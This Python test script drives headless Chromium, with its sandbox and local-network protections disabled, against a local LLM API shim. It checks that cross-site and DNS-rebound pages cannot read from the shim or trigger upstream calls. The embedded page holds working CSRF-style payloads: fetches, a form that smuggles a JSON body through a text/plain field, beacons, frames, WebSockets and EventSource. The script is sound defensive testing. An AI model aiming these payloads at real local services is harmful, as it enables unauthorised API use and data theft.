"""A page of another site in headless Chromium can neither read from the shim nor cause a call.

    python check_browser.py

Needs Chromium (Debian: apt-get install chromium), or says that it is left out. Pages, the upstream
that records and the rebound name are served by this file; the browser resolves every name to
127.0.0.1, and its own protections of the local network are switched off.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import queue
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from typing import Any, NamedTuple

from wire import SHIM_FILE, SHIM_PYTHON, all_of, check, run, shim

NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome")
CHROMIUM = os.environ.get("CHROMIUM") or next(filter(None, map(shutil.which, NAMES)), None)
SECONDS = 40.0

# Every attack is a promise of what the page could read; a failure to read is `blocked`.
PAGE = """<!doctype html><meta charset=utf-8><title>page</title><body><script>
const shim = SHIM, messages = [{role: "user", content: "hi"}];
const body = JSON.stringify({model: "opus", messages});
const chat = shim + "/v1/chat/completions", json = {"content-type": "application/json"};
const read = async answer =>
    answer.type == "opaque" ? "opaque" : "read " + answer.status + " " + await answer.text();
const post = (url, more) => fetch(url, {method: "POST", body, ...more}).then(read);
const get = path => fetch(shim + path).then(read);
const keyed = {...json, authorization: "Bearer x"};
const tag = (name, set, loads = 1) => new Promise(done => {
    const element = document.createElement(name);
    element.onload = () => --loads || done(name == "iframe" ? inside(element) : "loaded");
    element.onerror = () => done("blocked");
    set(element);
    document.body.append(element);
    setTimeout(() => done("blocked"), 3000);
});
const inside = frame => {
    try { return "read " + frame.contentDocument.body.innerText } catch { return "blocked" }
};
const form = type => tag("iframe", frame => {
    frame.name = "f" + type;
    const form = document.createElement("form"), field = document.createElement("input");
    Object.assign(form, {method: "POST", action: chat, enctype: type, target: frame.name});
    field.name = body.slice(0, -1) + ', "x": "'; field.value = '"}';
    form.append(field);
    document.body.append(form);
    setTimeout(() => form.submit(), 50);
}, 2);
const socket = new URL(shim).host;
const attacks = {
    "fetch, simple": () => post(chat),
    "fetch, simple, as text": () => post(chat, {headers: {"content-type": "text/plain"}}),
    "fetch, without cors": () => post(chat, {mode: "no-cors"}),
    "fetch, with cookies": () => post(chat, {credentials: "include"}),
    "fetch, preflighted": () => post(chat, {headers: keyed}),
    "fetch, messages": () => post(shim + "/v1/messages", {headers: json}),
    "fetch, models": () => get("/v1/models"),
    "fetch, deep health": () => get("/health?deep=1"),
    "beacon": async () => navigator.sendBeacon(chat, body) ? "opaque" : "blocked",
    "form, as text": () => form("text/plain"),
    "form": () => form("application/x-www-form-urlencoded"),
    "form, multipart": () => form("multipart/form-data"),
    "image": () => tag("img", e => e.src = shim + "/health?deep=1"),
    "script": () => tag("script", e => e.src = shim + "/v1/models"),
    "style": () => tag("link", e => { e.rel = "stylesheet"; e.href = shim + "/v1/models" }),
    "frame": () => tag("iframe", e => e.src = shim + "/health?deep=1"),
    "websocket": () => new Promise(done => {
        const s = new WebSocket("ws://" + socket + "/v1/responses");
        s.onopen = () => done("opened"); s.onerror = () => done("blocked");
    }),
    "event source": () => new Promise(done => {
        const s = new EventSource(shim + "/v1/models");
        s.onopen = () => done("opened"); s.onerror = () => { s.close(); done("blocked") };
    }),
};
(async () => {
    const found = {};
    for (const name in attacks)
        found[name] = await attacks[name]().catch(error => "blocked");
    await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


class Pages(http.server.ThreadingHTTPServer):
    """Serves the page at /page and takes its report; all else goes through to the shim, as bytes.

    That is what a name does that was rebound: the page's own origin is suddenly the shim.
    """

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), PageHandler)
        self.reports: queue.Queue[dict[str, str]] = queue.Queue()
        self.shim_port = 0
        self.target = ""  # which origin the page attacks; empty: its own
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class PageHandler(http.server.BaseHTTPRequestHandler):
    server: Pages

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        if self.path == "/page":
            target = json.dumps(self.server.target) if self.server.target else "location.origin"
            self.answer(PAGE.replace("SHIM", target, 1).encode())
        elif self.path == "/favicon.ico":
            self.answer(b"")
        else:
            self.through()

    def do_POST(self) -> None:
        if self.path != "/report":
            return self.through()
        length = int(self.headers["content-length"])
        self.server.reports.put(json.loads(self.rfile.read(length)))
        return self.answer(b"thanks")

    do_OPTIONS = do_GET

    def answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def through(self) -> None:
        """The request as the browser wrote it, to the shim; one a connection."""
        length = int(self.headers.get("content-length", 0))
        fields = [(k, v) for k, v in self.headers.items() if k.lower() != "connection"]
        lines = [self.requestline, *(f"{name}: {value}" for name, value in fields)]
        raw = "\r\n".join([*lines, "Connection: close", "", ""]).encode("latin-1")
        with socket.create_connection(("127.0.0.1", self.server.shim_port)) as sock:
            sock.sendall(raw + self.rfile.read(length))
            while piece := sock.recv(1 << 16):
                self.wfile.write(piece)
        self.close_connection = True


class Recorder(http.server.ThreadingHTTPServer):
    """An upstream that answers every question, and remembers that it was asked."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), RecorderHandler)
        self.asked: list[str] = []
        threading.Thread(target=self.serve_forever, daemon=True).start()


MESSAGE = {"id": "m", "type": "message", "role": "assistant", "model": "claude-opus-5-5"}
EVENTS = [
    {"type": "message_start", "message": {**MESSAGE, "content": [], "usage": {"input_tokens": 1}}},
    {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": "so"}},
    {"type": "content_block_stop", "index": 0},
    {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 1}},
    {"type": "message_stop"},
]  # fmt: skip


class RecorderHandler(http.server.BaseHTTPRequestHandler):
    server: Recorder

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        self.server.asked.append(f"{self.command} {self.path}")
        raw = "".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n" for e in EVENTS).encode()
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("content-length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["content-length"]))
        self.do_GET()


@contextlib.contextmanager
def browser(url: str) -> Iterator[None]:
    """Chromium at a page, until left."""
    assert CHROMIUM
    off = "LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,OptimizationHints"
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as home:
        options = [
            "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--no-proxy-server", "--disable-dev-shm-usage", "--disable-background-networking",
            "--disable-component-update", f"--user-data-dir={home}/profile",
            f"--disable-features={off}", "--host-resolver-rules=MAP *.example 127.0.0.1",
        ]  # fmt: skip
        process = subprocess.Popen(
            [CHROMIUM, *options, url], env={**os.environ, "HOME": home},
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
        )  # fmt: skip
        try:
            yield
        finally:
            os.killpg(process.pid, signal.SIGKILL)  # its children write on, else
            process.wait()


class Visit(NamedTuple):
    """What a page achieved, what upstream was asked, and the shim's log."""

    found: dict[str, str]
    asked: list[str]
    log: list[str]


def visited(page_host: str, *options: str, rebound: bool = False) -> Visit:
    """What a page at `page_host` comes to; `ORIGIN` in the options stands for its origin."""
    with contextlib.ExitStack() as stack:
        recorder, pages = stack.enter_context(Recorder()), stack.enter_context(Pages())
        origin = f"http://{page_host}:{pages.port}"
        base = f"http://127.0.0.1:{recorder.server_address[1]}"
        allowed = [option.replace("ORIGIN", origin) for option in options]
        server = stack.enter_context(shim("--base-url", base, "--retries", "0", *allowed))
        pages.shim_port = server.port
        pages.target = "" if rebound else server.url
        with browser(f"{origin}/page"):
            found = pages.reports.get(timeout=SECONDS)
        pages.shutdown()
        recorder.shutdown()
        return Visit(found, recorder.asked, server.log_lines())


def harmless(visit: Visit) -> str:
    """Nothing was read, nothing was asked, and it was the shim that refused."""
    problems = [f"{name}: {came[:200]}" for name, came in visit.found.items() if gained(came)]
    problems += [f"upstream was asked: {visit.asked}"] if visit.asked else []
    refused = sum(1 for line in visit.log if " 403 " in line)
    problems += [f"the shim has refused {refused} requests only"] if refused < 12 else []
    all_of(problems)
    return f"{len(visit.found)} ways tried, {refused} requests refused, upstream asked for nothing"


def gained(came: str) -> bool:
    """A refusal may be read where the page is of the shim's own (rebound) origin."""
    return came not in ("blocked", "opaque") and not ("permission" in came or "not served" in came)


@check("a page of another site: fetch, form, image, script, frame, beacon, WebSocket")
def other_site() -> str:
    return harmless(visited("evil.example")) if CHROMIUM else "left out: no Chromium here"


@check("a page whose name was rebound to the shim")
def rebound_name() -> str:
    return harmless(visited("rebind.example", rebound=True)) if CHROMIUM else "left out"


def knows_allow_origin() -> bool:
    command = [SHIM_PYTHON, SHIM_FILE, "--help"]
    return b"--allow-origin" in subprocess.run(command, capture_output=True, check=True).stdout


@check("a page of an allowed origin can read and call; another one still cannot")
def allowed_origin() -> str:
    if not CHROMIUM or not knows_allow_origin():
        return "left out: no Chromium here" if not CHROMIUM else "left out: no --allow-origin yet"
    found, asked, _ = visited("good.example", "--allow-origin", "ORIGIN")
    wanted = ("fetch, preflighted", "fetch, messages", "fetch, models")
    all_of([f"{n}: {found[n][:300]}" for n in wanted if not found[n].startswith("read 200")])
    assert asked
    harmless(visited("evil.example", "--allow-origin", "http://good.example"))
    return f"{len(asked)} calls upstream for the one, none for the other"


if __name__ == "__main__":
    sys.exit(run("browser"))
